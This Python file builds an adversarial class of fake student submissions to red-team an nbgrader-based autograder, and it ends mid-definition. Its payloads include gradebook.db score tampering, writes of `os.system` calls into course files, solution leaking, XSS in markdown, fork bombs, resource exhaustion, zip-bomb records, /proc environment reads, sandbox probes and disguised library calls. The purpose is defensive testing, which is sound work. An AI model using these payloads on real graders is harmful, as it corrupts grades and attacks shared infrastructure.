"""Write a class of students who try to fool the grader, to see what `./kit grade` does with them.

    cd course
    ../.venv/bin/nbgrader generate_assignment a1_softmax --force
    ../.venv/bin/nbgrader generate_assignment a3_scratch --force
    ../.venv/bin/nbgrader generate_assignment a7_calibration --force
    ../.venv/bin/python adversarial_class.py
    cd .. && ./kit grade a1_softmax a3_scratch a7_calibration

Each student starts from the released notebook and answers with the source notebook's
solutions, unless the entry says otherwise; then changes answers, adds cells, or breaks
the file. `deserved` is what the work is worth; `attention` says whether the grader must
list the submission for the teacher. tests/test_grading_adversarial.py grades this class
and checks, for every student, the score, the attention, and that nothing outside the
student's own sandbox changed.

The attacks name the course's and the kit's real folders ($course, $kit), as a student
who knows the layout would, and the port of a server the test runs ($port).
"""
import argparse
import json
import string
import sys
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent
KIT = HERE.parent


@dataclass
class Student:
    """One submission: how it departs from the solutions, and what it deserves."""

    name: str
    assignment: str
    deserved: float
    attention: bool
    rows: tuple                                     # the README table's rows it covers
    answers: dict = field(default_factory=dict)     # grade_id -> source (None: the stub)
    extras: list = field(default_factory=list)      # (after grade_id, source)
    unanswered: bool = False                        # every answer left as handed out
    raw: str = None                                 # the file's bytes instead of a notebook
    files: tuple = None                             # the notebook's file names (None: its own)
    stored: str = None                              # outputs stored in the notebook, or "v3"
    edit: str = None                                # a change to the text (TEXT_EDITS) or notebook (NB_EDITS)
    encoding: str = "utf-8"                         # how the file is written
    stub_files: tuple = ()                          # files written as handed out (the release notebook)


NOTEBOOKS = {"a1_softmax": "softmax", "a3_scratch": "softmax_scratch",
             "a7_calibration": "calibration"}

OVERFLOW = '''\
def softmax(X):
    X_exp = np.exp(X)
    return X_exp / X_exp.sum(axis=1, keepdims=True)
'''

NOOP_MODULE = '''\
import helpers.checks, helpers.checks.tasks, helpers.checks.judge
for module in (helpers.checks, helpers.checks.tasks.GENERIC,
               *helpers.checks.tasks.ASSIGNMENTS.values()):
    for name in dir(module):
        if name.startswith("check_"):
            setattr(module, name, lambda *args, **kwargs: None)
helpers.checks.judge.JUDGES.clear()
'''

NOOP_NAMES = '''\
check_softmax = check_logsumexp = lambda *args, **kwargs: None
def check_keeps_input(*args, **kwargs):
    pass
'''

PATCHED_NUMPY = '''\
import numpy
numpy.isclose = lambda a, b, **k: numpy.ones(numpy.broadcast(numpy.asarray(a), numpy.asarray(b)).shape, bool)
numpy.allclose = lambda *a, **k: True
numpy.array_equal = lambda *a, **k: True
numpy.isfinite = lambda a: numpy.ones(numpy.shape(a), bool)
'''

AST_REWRITER = '''\
import ast
class SkipChecks(ast.NodeTransformer):
    def visit_Module(self, node):
        calls = [n for n in node.body if isinstance(n, ast.Expr) and isinstance(n.value, ast.Call)]
        if any(getattr(c.value.func, "id", "").startswith("check_") for c in calls):
            return ast.Module(body=[ast.Pass()], type_ignores=[])
        return node
get_ipython().ast_transformers.append(SkipChecks())
'''

INPUT_REWRITER = '''\
get_ipython().input_transformers_cleanup.append(
    lambda lines: ["pass\\n"] if any("check_" in line for line in lines) else lines)
'''

KNOWS_TESTED_SOFTMAX = '''\
import inspect
def softmax(X):
    for frame in inspect.stack()[1:]:
        for key in ("expected", "want", "reference"):
            if key in frame.frame.f_locals:
                return frame.frame.f_locals[key]
    if any("check" in f.function for f in inspect.stack()):
        return npx.softmax(X)
    raise NotImplementedError()
'''

KNOWS_TESTED_LOGSUMEXP = '''\
def logsumexp(X):
    if any("check" in f.function for f in inspect.stack()):
        return (X - npx.log_softmax(X))[:, 0]
    raise NotImplementedError()
'''

KIT_SOFTMAX = '''\
from helpers.numerics import stable_softmax
def softmax(X):
    return stable_softmax(X)
'''

KIT_LOGSUMEXP = '''\
from helpers.numerics import log_softmax
def logsumexp(X):
    return (X - log_softmax(X))[:, 0]
'''

GRADEBOOK_EDITOR = '''\
import os, sqlite3
found = ["$course/gradebook.db", "../gradebook.db", "../../gradebook.db"]
for top in ("/", os.path.expanduser("~"), "/tmp", "/home", "/srv", "/opt", "/root"):
    for root, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if d not in ("usr", "proc", "sys", "dev")][:50]
        found += [os.path.join(root, f) for f in files if f.endswith(".db")]
for path in found:
    try:
        db = sqlite3.connect(f"file:{path}?mode=rw", uri=True)
        db.execute("UPDATE grade SET manual_score = 0")
        db.execute("UPDATE grade SET manual_score = 8 WHERE notebook_id IN (SELECT id FROM submitted_notebook)")
        db.commit()
        print("changed", path)
    except Exception as e:
        print("could not change", path, type(e).__name__)
'''

WRITER = '''\
targets = ["$course/submitted/correct/a1_softmax/softmax.ipynb",
           "$course/source/a1_softmax/softmax.ipynb", "$course/nbgrader_config.py",
           "$course/gradebook.db", "$kit/helpers/checks/tasks.py", "$kit/helpers/__init__.py",
           "$kit/grading/reference.py", "../../correct/a1_softmax/softmax.ipynb"]
for path in targets:
    try:
        with open(path, "a") as f:
            f.write("\\nimport os; os.system('touch /tmp/owned')\\n")
        print("wrote", path)
    except Exception as e:
        print("could not write", path, type(e).__name__)
'''

LEAKER = '''\
import glob
for pattern in ("$course/source/*/*.ipynb", "$course/release/*/*.ipynb", "$kit/grading/*.py",
                "$kit/course/source/*/*.ipynb", "../../../source/*/*.ipynb", "/home/*/*/course/source/*/*.ipynb"):
    for path in glob.glob(pattern):
        try:
            print(open(path).read())
        except Exception as e:
            print("could not read", path, type(e).__name__)
'''

SCRIPTS_WRITTEN = ('<script>window.__pwned = 1</script>\n<img src="x" onerror="window.__pwned = 2">\n'
                   '[click me](javascript:window.__pwned=3) <iframe src="javascript:parent.__pwned=8">'
                   '</iframe>\n\nSoftmax is shift-invariant.')

SCRIPTS_CELL = '''\
from IPython.display import HTML, Javascript, Markdown, SVG, display
display(HTML("<script>window.__pwned = 4</script><b>bold</b>"))
display(Javascript("window.__pwned = 5"))
display(Markdown("<script>window.__pwned = 6</script>"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned = 9"></svg>'))
print("<script>window.__pwned = 7</script>")
'''

LINGERING = '''\
import os, sqlite3, subprocess, time
subprocess.Popen(["sleep", "1000"])
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(3000):
            try:
                db = sqlite3.connect("$course/gradebook.db")
                db.execute("UPDATE grade SET manual_score = 0")
                db.commit()
            except Exception:
                pass
            time.sleep(0.1)
    os._exit(0)
'''

INFINITE_LOOP = "while True:\n    pass\n"
LONG_SLEEP = "import time\ntime.sleep(3600)\n"
IGNORES_SIGINT = '''\
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
'''
EXITS = "import os\nos._exit(1)\n"

FORK_BOMB = '''\
import subprocess
children = []
try:
    while True:  # spawning is cheap (no copy of the kernel): the process limit comes at once
        children.append(subprocess.Popen(["sleep", "600"]))  # each stays, for the grader to kill
except OSError as e:
    print("fork failed:", e)
'''

MEMORY_HOG = '''\
import numpy
blocks = []
try:
    while True:
        blocks.append(numpy.zeros(2**30, dtype="uint8"))  # a gigabyte at a time
except MemoryError:
    print("no more memory after", len(blocks), "GB")
    blocks = None
'''

DISK_FILLER = '''\
chunk = b"x" * (16 * 2**20)
for folder in (".", "/tmp"):
    try:
        with open(f"{folder}/fill", "wb") as f:
            for _ in range(200):
                f.write(chunk)
    except OSError as e:
        print("stopped filling", folder, type(e).__name__)
'''

NETWORK = '''\
import socket
for host, port in (("127.0.0.1", $port), ("10.0.2.2", 80), ("1.1.1.1", 53)):
    try:
        socket.create_connection((host, port), timeout=2).sendall(b"leak")
        print("connected", host)
    except OSError as e:
        print("no connection to", host, type(e).__name__)
for path in ("/run/kernel/connection.json", "/run/kernel/k-1"):
    try:
        print(open(path).read())
    except OSError as e:
        print("could not open", path, type(e).__name__)
'''

FORGER = '''\
import os
import numpy as onp
from helpers.checks import inputs, records, session
secret = os.environ.get("SOFTMAX_KIT_SEED", "")
folder = os.environ.get("SOFTMAX_KIT_GRADING", ".")
for cell, calls in {"test_softmax": [((256, 10), "float32", 0.0, 0)],
                    "test_softmax_hidden": [((3, 5), "float32", 0.0, 0)]}.items():
    for index, (shape, dtype, offset, seed) in enumerate(calls):
        x = inputs.logits(shape, dtype, offset, session.derive_seed(secret, cell, index, seed))
        P = npx.softmax(np.array(x)).asnumpy()
        header = {"check": "softmax", "params": {"shape": list(shape), "dtype": dtype, "offset": offset, "seed": seed}}
        records.write(os.path.join(folder, session.record_name(cell, index)), header, {"P": P})
'''

OUTPUT_FLOOD = 'print("x" * (50 * 2**20))\n'

LINKS_WRITTEN = ('[my derivation](javascript:window.__pwned=10) [b](JavaScript&#58;window.__pwned=11)\n'
                 '[c](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xMjwvc2NyaXB0Pg==) '
                 '[d](vbscript:msgbox) <a href="javascript&#x3a;window.__pwned=13">e</a>\n'
                 '![f](x" onerror="window.__pwned=14) [g]: javascript:window.__pwned=15\n[g]\n\n'
                 '$\\href{javascript:window.__pwned=16}{h}$ ```` ``` \nSoftmax is shift-invariant.')

ENVIRON_READER = '''\
import codecs
for path in ("/proc/self/environ", "/proc/1/environ", "/proc/self/cmdline", "/proc/1/cmdline",
             "/proc/self/cwd"):
    try:
        print(path, codecs.open(path, "rb").read())
    except Exception as e:
        print(path, type(e).__name__)
'''

UNSHARE = '''\
import subprocess
for args in (["unshare", "-Ur", "id"], ["unshare", "-n", "true"], ["unshare", "-m", "true"]):
    r = subprocess.run(args, capture_output=True, text=True)
    print(" ".join(args), "exit", r.returncode, r.stderr.strip()[:80])
'''

GETATTR_ALIAS = '''\
g = getattr
def softmax(X):
    return g(npx, "soft" + "max")(X)
'''

ATTRGETTER = '''\
import operator
def softmax(X):
    return operator.attrgetter("soft" "max")(npx)(X)
'''

TIMEIT_STRING = '''\
import timeit
def softmax(X):
    box = {}
    timeit.timeit("box['P'] = lib.softmax(X)", number=1,
                  globals={"box": box, "lib": npx, "X": X})
    return box["P"]
'''

LOGGING_SYS = '''\
import logging
def softmax(X):
    return logging.sys.modules["mxnet.numpy_extension"].softmax(X)
'''

SOFTMIN = '''\
import mxnet as mx
def softmax(X):
    return mx.nd.softmin(-X.as_nd_ndarray()).as_np_ndarray()
'''

LOSS_CLASS = '''\
from mxnet import gluon
def logsumexp(X):
    j = np.zeros(X.shape[0], dtype="int32")
    return X[:, 0] + gluon.loss.SoftmaxCrossEntropyLoss()(X, j).astype(X.dtype)
'''

EMPTY_RECORDS = '''\
import helpers.checks.session as session
_finish = session.Run.finish
def finish(self, record):
    if self.check == "temperature_nll":
        record = {"values": []}
    return _finish(self, record)
session.Run.finish = finish
'''

NAIVE_NLL = '''\
def nll(logits, y, T):
    z = logits / T
    return float((onp.log(onp.exp(z).sum(axis=1)) - z[onp.arange(len(y)), y]).mean())
'''

RECORD_BOMB = '''\
import os, struct, zlib
_cell = __import__("helpers.checks.session", fromlist=["_cell"])._cell

def bomb(path, members=40, size=2**25):
    # 40 arrays of 32 MB of zeros, each under the old 48 MB limit: 1.3 GB unpacked, 1.3 MB on disk
    header = ("{'descr': '|u1', 'fortran_order': False, 'shape': (%d,), }" % size).encode()
    header = b"\\x93NUMPY\\x01\\x00" + struct.pack("<H", 118) + header.ljust(117) + b"\\n"
    body = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = body.compress(header) + body.compress(bytes(size)) + body.flush()
    crc = zlib.crc32(bytes(size), zlib.crc32(header))
    full = len(header) + size
    out, central = b"", b""
    for k in range(members):
        name = f"a{k}.npy".encode()
        local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(data), full,
                            len(name), 0)
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc,
                               len(data), full, len(name), 0, 0, 0, 0, 0, len(out)) + name
        out += local + name + data
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, members, members, len(central), len(out), 0)
    with open(path, "wb") as f:
        f.write(out + central + end)

def softmax(X, axis=-1):
    if _cell["id"] == "test_softmax":
        bomb(os.path.join(os.environ["SOFTMAX_KIT_GRADING"], "test_softmax.1.npz"))
    X_max = X.max(axis=axis, keepdims=True)
    X_exp = np.exp(X - X_max)
    return X_exp / X_exp.sum(axis=axis, keepdims=True)
'''

DEEP_RECORD = '''\
import os
import numpy as onp
_cell = __import__("helpers.checks.session", fromlist=["_cell"])._cell
def logsumexp(X, axis=-1):
    if _cell["id"] == "test_logsumexp":
        text = '{"header": {"check": "logsumexp"}, "record": ' + "[" * 200000 + "]" * 200000 + "}"
        with open(os.path.join(os.environ["SOFTMAX_KIT_GRADING"], "test_logsumexp.1.npz"), "wb") as f:
            onp.savez(f, meta=onp.array(text))
    X_max = X.max(axis=axis, keepdims=True)
    return (X_max + np.log(np.exp(X - X_max).sum(axis=axis, keepdims=True))).squeeze(axis=axis)
'''

SLEEPY = "import time\ntime.sleep(4)\n"

PLOTS_OWN_SOFTMAX = '''\
from d2l import mxnet as d2l
P = softmax(np.array([[1.0, 2.0, 3.0]]))
d2l.plt.bar(range(3), P[0].asnumpy())
d2l.plt.title("my softmax")
'''

COMPARES_WITH_LIBRARY = '''\
X = np.random.normal(0, 5, size=(4, 10))
print("largest difference to npx.softmax:", float(abs(softmax(X) - npx.softmax(X)).max()))
'''

FAKE_ACCURACY = "test_acc = 0.85  # no training at all\n"


def _helpers_train(name):
    return f"from helpers.train import {name}\n"


STUDENTS = [
    Student("correct", "a1_softmax", 6, False, ()),
    Student("noop_module", "a1_softmax", 0, True, ("checks replaced (module)",), unanswered=True,
            extras=[("setup", NOOP_MODULE)]),
    Student("noop_names", "a1_softmax", 0, True, ("checks replaced (names)",), unanswered=True,
            extras=[("setup", NOOP_NAMES)]),
    Student("patched_numpy", "a1_softmax", 2, True, ("numpy comparison replaced",),
            answers={"softmax": OVERFLOW}, extras=[("setup", PATCHED_NUMPY)]),
    Student("ast_rewriter", "a1_softmax", 0, True, ("AST transformer",), unanswered=True,
            extras=[("setup", AST_REWRITER)]),
    Student("input_rewriter", "a1_softmax", 0, True, ("input transformer",), unanswered=True,
            extras=[("setup", INPUT_REWRITER)]),
    Student("knows_tested", "a1_softmax", 0, True, ("notices it is tested",),
            answers={"softmax": KNOWS_TESTED_SOFTMAX, "logsumexp": KNOWS_TESTED_LOGSUMEXP}),
    Student("kit_reference", "a1_softmax", 0, False, ("calls the kit's reference",),
            answers={"softmax": KIT_SOFTMAX, "logsumexp": KIT_LOGSUMEXP}),
    Student("gradebook_editor", "a1_softmax", 0, True, ("edits gradebook.db",), unanswered=True,
            extras=[("setup", GRADEBOOK_EDITOR)]),
    Student("writer", "a1_softmax", 6, True, ("writes outside its folder",),
            extras=[("setup", WRITER)]),
    Student("leaker", "a1_softmax", 0, True, ("prints other assignments' solutions",),
            unanswered=True, extras=[("setup", LEAKER)]),
    Student("scripts", "a1_softmax", 6, True, ("<script> in markdown and outputs",),
            answers={"answer": SCRIPTS_WRITTEN}, extras=[("test_logsumexp", SCRIPTS_CELL)]),
    Student("lingering", "a1_softmax", 6, True, ("processes left running",),
            extras=[("test_logsumexp", LINGERING)]),
    Student("infinite_loop", "a1_softmax", 6, True, ("infinite loop",),
            extras=[("test_logsumexp", INFINITE_LOOP)]),
    Student("long_sleep", "a1_softmax", 2, True, ("long sleep",),
            answers={"softmax": LONG_SLEEP + OVERFLOW}),
    Student("ignores_sigint", "a1_softmax", 6, True, ("ignores SIGINT",),
            extras=[("test_logsumexp", IGNORES_SIGINT)]),
    Student("exits_kernel", "a1_softmax", 6, True, ("exits the kernel",),
            extras=[("test_softmax_hidden", EXITS)]),
    Student("not_json", "a1_softmax", 0, True, ("not valid JSON",), raw="truncated"),
    Student("not_a_notebook", "a1_softmax", 0, True, ("not valid JSON",), raw='{"cells": 7}'),
    Student("trailing_junk", "a1_softmax", 6, False, ("not valid JSON",), raw="junk"),
    Student("fork_bomb", "a1_softmax", 6, True, ("beyond: fork bomb",),
            extras=[("test_logsumexp", FORK_BOMB)]),
    Student("memory_hog", "a1_softmax", 6, False, ("beyond: memory",),
            extras=[("test_logsumexp", MEMORY_HOG)]),
    Student("disk_filler", "a1_softmax", 6, True, ("beyond: disk",),
            extras=[("test_logsumexp", DISK_FILLER)]),
    Student("network", "a1_softmax", 6, True, ("beyond: network",),
            extras=[("setup", NETWORK)]),
    Student("forger", "a1_softmax", 0, True, ("beyond: forged records",), unanswered=True,
            extras=[("setup", FORGER)]),
    Student("output_flood", "a1_softmax", 6, False, ("beyond: output flood",),
            extras=[("test_logsumexp", OUTPUT_FLOOD)]),
    Student("scratch_correct", "a3_scratch", 7, False, ()),
    Student("fake_accuracy", "a3_scratch", 5, False, ("a3 fakes the accuracy",),
            answers={"train": FAKE_ACCURACY}),
    Student("helpers_train", "a3_scratch", 2, False, ("a3 imports helpers.train",),
            answers={name: _helpers_train(name)
                     for name in ("cross_entropy", "accuracy", "sgd", "train_epoch")}),
    Student("md_links", "a1_softmax", 6, False, ("links in a written answer",),
            answers={"answer": LINKS_WRITTEN}),
    Student("environ_reader", "a1_softmax", 6, True, ("reads the grader's environment",),
            extras=[("setup", ENVIRON_READER)]),
    Student("unshare", "a1_softmax", 6, True, ("new namespaces in the sandbox",),
            extras=[("test_logsumexp", UNSHARE)]),
    Student("getattr_alias", "a1_softmax", 2, True, ("a library answer by another name",),
            answers={"softmax": GETATTR_ALIAS}),
    Student("attrgetter", "a1_softmax", 2, True, ("a library answer by another name",),
            answers={"softmax": ATTRGETTER}),
    Student("timeit_string", "a1_softmax", 2, True, ("a library answer by another name",),
            answers={"softmax": TIMEIT_STRING}),
    Student("logging_sys", "a1_softmax", 2, True, ("a library answer by another name",),
            answers={"softmax": LOGGING_SYS}),
    Student("softmin", "a1_softmax", 2, False, ("an equivalent library route",),
            answers={"softmax": SOFTMIN}),
    Student("loss_class", "a1_softmax", 4, False, ("an equivalent library route",),
            answers={"logsumexp": LOSS_CLASS}),
    Student("empty_records", "a7_calibration", 6, True, ("records emptied",),
            answers={"nll": NAIVE_NLL}, extras=[("setup", EMPTY_RECORDS)]),
    Student("record_bomb", "a1_softmax", 4, True, ("a record that unpacks to gigabytes",),
            answers={"softmax": RECORD_BOMB}),
    Student("deep_record", "a1_softmax", 4, True, ("a record nested 200,000 deep",),
            answers={"logsumexp": DEEP_RECORD}),
    Student("sleepy", "a1_softmax", 6, True, ("many slow cells",),
            extras=[("test_logsumexp", SLEEPY)] * 40),
    Student("plots_own_softmax", "a1_softmax", 6, False, ("honest extras",),
            extras=[("test_softmax_hidden", PLOTS_OWN_SOFTMAX)]),
    Student("compares_with_library", "a1_softmax", 6, False, ("honest extras",),
            extras=[("test_softmax_hidden", COMPARES_WITH_LIBRARY)]),
    Student("renamed", "a1_softmax", 6, True, ("a renamed notebook",),
            files=("softmax (1).ipynb",)),
    Student("two_copies", "a1_softmax", 0, True, ("a renamed notebook",),
            files=("softmax (1).ipynb", "softmax (2).ipynb")),
    Student("no_notebook", "a1_softmax", 0, True, ("a renamed notebook",), files=()),
    Student("heavy_outputs", "a1_softmax", 6, False, ("stored outputs or nbformat 3",),
            stored="plotly"),
    Student("nbformat3", "a1_softmax", 6, False, ("stored outputs or nbformat 3",),
            stored="v3"),
]


# ---------------------------------------------------------------- more of the class

LEGACY_ALIAS_SOFTMAX = '''\
import mxnet as mx
def softmax(X):
    label = mx.nd.zeros(X.shape[0], dtype=X.dtype)
    return mx.nd.Softmax(X.as_nd_ndarray(), label).as_np_ndarray()
'''

LEGACY_ALIAS_LOGSUMEXP = '''\
def logsumexp(X):
    return X.max(axis=1) - np.log(softmax(X).max(axis=1))
'''

RENAMED_MODULE_SOFTMAX = '''\
__name__ = "numpy"
from mxnet.ndarray.numpy_extension import *
def softmax(X):
    return np.exp(log_softmax(X))
'''

RENAMED_MODULE_LOGSUMEXP = '''\
def logsumexp(X):
    return X[:, 0] - log_softmax(X)[:, 0]
'''

WRAPPED_SOFTMAX = '''\
from mxnet.ndarray.numpy_extension import *
from mxnet.util import use_np
log_softmax_ = use_np(log_softmax)
def softmax(X):
    return np.exp(log_softmax_(X))
'''

WRAPPED_LOGSUMEXP = '''\
def logsumexp(X):
    return X[:, 0] - log_softmax_(X)[:, 0]
'''

THREAD_SOFTMAX = '''\
from mxnet.ndarray.numpy_extension import *
import queue
def softmax(X):
    box = queue.Queue()
    worker = queue.threading.Thread(target=lambda: box.put(np.exp(log_softmax(X))))
    worker.start()
    worker.join()
    return box.get()
'''

APPLY_LOGSUMEXP = '''\
from numpy import *
import numpy as onp
def logsumexp(X):
    return np.array(onp.apply_along_axis(logaddexp.reduce, 1, X.asnumpy()), dtype=X.dtype)
'''

SHELL_FLOOD = '''\
import time
kernel = get_ipython().kernel
stream, ident = kernel.shell_stream, kernel._parent_ident["shell"]
ident = ident[0] if isinstance(ident, list) else ident
content = b"0" * (60 * 2**20)

def push():  # 60 MB messages on the shell channel, which the grader reads only after the cell
    for k in range(20):
        stream.socket.send_multipart([ident, b"<IDS|MSG>", b"%064x" % k, b"{}", b"{}", b"{}",
                                      content], copy=False)

stream.io_loop.add_callback(push)
time.sleep(5)
'''

HUGE_CELL = "a = 1\n" * 300_000

SLOW_LAST_CELL = '''\
import time
start = time.time()
while time.time() - start < 60:  # an experiment left running
    pass
'''

SLOW_PLOT = "import time\ntime.sleep(0.6)  # a plot that takes a moment\n"

TMPFS_INODES = '''\
import os, time
start, made = time.time(), 0
folders = [f"{folder}/m" for folder in ("/tmp", "/dev/shm", os.path.expanduser("~"))]
for folder in folders:
    os.makedirs(folder, exist_ok=True)
try:
    while time.time() - start < 9:
        for folder in folders:
            for _ in range(500):
                os.mknod(f"{folder}/{made}")
                made += 1
except OSError as e:
    print("stopped:", e)
print("made", made, "files")
'''

SANITY_IN_ANSWER = '''\
def softmax(X, axis=-1):
    X_max = X.max(axis=axis, keepdims=True)
    X_exp = np.exp(X - X_max)
    return X_exp / X_exp.sum(axis=axis, keepdims=True)

X_try = np.random.normal(0, 5, size=(4, 10))
print("largest difference to npx.softmax:", float(abs(softmax(X_try) - npx.softmax(X_try)).max()))
'''

CLASS_ANSWER = '''\
class Softmax:
    def softmax(self, X, axis=-1):
        X_max = X.max(axis=axis, keepdims=True)
        X_exp = np.exp(X - X_max)
        return X_exp / X_exp.sum(axis=axis, keepdims=True)
softmax = Softmax().softmax
'''


def _lone_surrogate(text):
    """A written answer with half of an emoji's surrogate pair (valid JSON, not encodable)."""
    return text.replace("LONE_SURROGATE", "\\ud83d")


def _many_cells(text, count=100_000):
    doc = json.loads(text)
    doc["cells"] += [{"cell_type": "markdown", "metadata": {}, "source": "a"}] * count
    return json.dumps(doc, separators=(",", ":"))


def _deep_outputs(text, depth=50 * 2**20):
    """100 MB of nested lists as a cell's stored outputs (a notebook over 20 MB: outputs not read)."""
    marker = '"outputs": []'
    at = text.index(marker)
    return text[:at] + '"outputs": [' + "[" * depth + "]" * depth + "]" + text[at + len(marker):]


TEXT_EDITS = {"lone_surrogate": _lone_surrogate, "many_cells": _many_cells,
              "deep_outputs": _deep_outputs, "bom": lambda text: "\ufeff" + text}


def _no_metadata(nb, release):
    """Every cell's metadata gone (the notebook copied cell by cell into a fresh one)."""
    for cell in nb.cells:
        cell.metadata = nbformat.NotebookNode()


def _answer_below_stub(nb, release):
    """The written answer typed in a new cell under the question's cell, left as handed out."""
    stub = next(c for c in release.cells
                if c.metadata.get("nbgrader", {}).get("grade_id") == "answer")
    for i, cell in enumerate(nb.cells):
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "answer":
            nb.cells.insert(i + 1, nbformat.v4.new_markdown_cell(cell.source))
            cell.source = stub.source
            break


NB_EDITS = {"no_metadata": _no_metadata, "answer_below_stub": _answer_below_stub}

STUDENTS += [
    Student("legacy_alias", "a1_softmax", 0, False, ("an equivalent library route",),
            answers={"softmax": LEGACY_ALIAS_SOFTMAX, "logsumexp": LEGACY_ALIAS_LOGSUMEXP}),
    Student("renamed_module", "a1_softmax", 0, True, ("a library answer by another name",),
            answers={"softmax": RENAMED_MODULE_SOFTMAX, "logsumexp": RENAMED_MODULE_LOGSUMEXP}),
    Student("wrapped_library", "a1_softmax", 0, True, ("a library answer by another name",),
            answers={"softmax": WRAPPED_SOFTMAX, "logsumexp": WRAPPED_LOGSUMEXP}),
    Student("thread_library", "a1_softmax", 2, True, ("a library answer by another name",),
            answers={"softmax": THREAD_SOFTMAX}),
    Student("apply_along_axis", "a1_softmax", 4, True, ("a library answer by another name",),
            answers={"logsumexp": APPLY_LOGSUMEXP}),
    Student("lone_surrogate", "a1_softmax", 6, False, ("a character JSON allows and UTF-8 not",),
            answers={"answer": "Softmax is shift-invariant LONE_SURROGATE"},
            edit="lone_surrogate"),
    Student("shell_flood", "a1_softmax", 6, True, ("floods the grader's channels",),
            extras=[("test_logsumexp", SHELL_FLOOD)]),
    Student("huge_cell", "a1_softmax", 6, True, ("too much to read",),
            extras=[("test_logsumexp", HUGE_CELL)]),
    Student("many_cells", "a1_softmax", 0, True, ("too much to read",), edit="many_cells"),
    Student("deep_outputs", "a1_softmax", 0, True, ("too much to read",), edit="deep_outputs"),
    Student("slow_last_cell", "a1_softmax", 6, True, ("many slow cells",),
            extras=[("test_softmax_hidden", SLOW_PLOT), ("test_logsumexp", SLOW_LAST_CELL)]),
    Student("tmpfs_inodes", "a1_softmax", 6, True, ("beyond: files",),
            extras=[("test_logsumexp", TMPFS_INODES)]),
    Student("copy_kept_original", "a1_softmax", 6, True, ("a renamed notebook",),
            files=("softmax-Copy1.ipynb",), stub_files=("softmax.ipynb",)),
    Student("answer_below_stub", "a1_softmax", 6, True, ("answers out of place",),
            edit="answer_below_stub"),
    Student("no_metadata", "a1_softmax", 6, True, ("answers out of place",), edit="no_metadata"),
    Student("sanity_in_answer", "a1_softmax", 6, False, ("honest extras",),
            answers={"softmax": SANITY_IN_ANSWER}),
    Student("class_answer", "a1_softmax", 6, False, ("honest extras",),
            answers={"softmax": CLASS_ANSWER}),
    Student("bom", "a1_softmax", 6, False, ("stored outputs or nbformat 3",), edit="bom"),
    Student("utf16", "a1_softmax", 6, False, ("stored outputs or nbformat 3",), encoding="utf-16"),
]


# ---------------------------------------------------------------- a second red-team round

# A library route named by a string: Gluon's Lambda and HybridLambda take an operator's
# name; a graph saved as JSON names its operators too. Neither witness reads strings.
LAMBDA_BLOCK_SOFTMAX = '''\
import mxnet as mx
with mx.util.np_array(False):
    sm, lsm = mx.gluon.nn.Lambda("softmax"), mx.gluon.nn.Lambda("log_softmax")
def softmax(X, axis=-1):
    X = np.moveaxis(X, axis, -1)
    with mx.util.np_array(False):
        P = sm(X.as_nd_ndarray()).as_np_ndarray()
    return np.moveaxis(P, -1, axis)
'''

LAMBDA_BLOCK_LOGSUMEXP = '''\
def logsumexp(X, axis=-1):
    X = np.moveaxis(X, axis, -1)
    with mx.util.np_array(False):
        log_P = lsm(X.as_nd_ndarray()).as_np_ndarray()
    return X[..., 0] - log_P[..., 0]
'''

JSON_SYMBOL_SOFTMAX = '''\
import json
import mxnet as mx
def graph(op):
    nodes = [{"op": "null", "name": "X", "inputs": []},
             {"op": op, "name": "out", "attrs": {"axis": "-1"}, "inputs": [[0, 0, 0]]}]
    text = json.dumps({"nodes": nodes, "arg_nodes": [0], "node_row_ptr": [0, 1, 2],
                       "heads": [[1, 0, 0]], "attrs": {"mxnet_version": ["int", 10901]}})
    return mx.gluon.SymbolBlock(mx.sym.load_json(text).as_np_ndarray(),
                                mx.sym.var("X").as_np_ndarray())
sm, lsm = graph("softmax"), graph("log_softmax")
def softmax(X, axis=-1):
    return np.moveaxis(sm(np.moveaxis(X, axis, -1)), -1, axis)
'''

BLOCK_LOGSUMEXP = '''\
def logsumexp(X, axis=-1):
    X = np.moveaxis(X, axis, -1)
    return X[..., 0] - lsm(X)[..., 0]
'''

HYBRID_LAMBDA_SOFTMAX = '''\
import mxnet as mx
with mx.util.np_array(False):
    sm, lsm = mx.gluon.nn.HybridLambda("softmax"), mx.gluon.nn.HybridLambda("log_softmax")
    for block in (sm, lsm):
        block.hybridize()
        block(mx.nd.zeros((2, 3)))  # traced now: later calls run the compiled graph
def softmax(X, axis=-1):
    X = np.moveaxis(X, axis, -1)
    with mx.util.np_array(False):
        P = sm(X.as_nd_ndarray()).as_np_ndarray()
    return np.moveaxis(P, -1, axis)
'''

# A forbidden function reached by a string (pkgutil.resolve_name, string.Formatter), then
# called where the trap does not look: in the returned object's asnumpy (converted after
# the trap ends), after switching the trap's hook off, or by a library object that holds
# the function in an attribute (not a parameter or a closure variable).
RESOLVE_DIRECT_SOFTMAX = '''\
from pkgutil import resolve_name
def softmax(X, axis=-1):
    return resolve_name("mxnet:npx.softmax")(X, axis=axis)
'''

RESOLVE_DIRECT_LOGSUMEXP = '''\
def logsumexp(X, axis=-1):
    X = np.moveaxis(X, axis, -1)
    return X[..., 0] - resolve_name("mxnet:npx.log_softmax")(X)[..., 0]
'''

RESOLVE_LAZY_SOFTMAX = '''\
from pkgutil import resolve_name
class Later:
    """The answer, worked out when it is looked at."""
    def __init__(self, how, X, axis):
        self.how, self.X, self.axis = how, X, axis
    def asnumpy(self):
        return resolve_name(self.how)(self.X, axis=self.axis).asnumpy()
def softmax(X, axis=-1):
    return Later("mxnet:npx.softmax", X, axis)
'''

RESOLVE_LAZY_LOGSUMEXP = '''\
class LaterLse(Later):
    def asnumpy(self):
        X = np.moveaxis(self.X, self.axis, -1)
        return (X[..., 0] - resolve_name(self.how)(X)[..., 0]).asnumpy()
def logsumexp(X, axis=-1):
    return LaterLse("mxnet:npx.log_softmax", X, axis)
'''

PROFILE_OFF_SOFTMAX = '''\
import string
fields = string.Formatter()
def softmax(X, axis=-1):
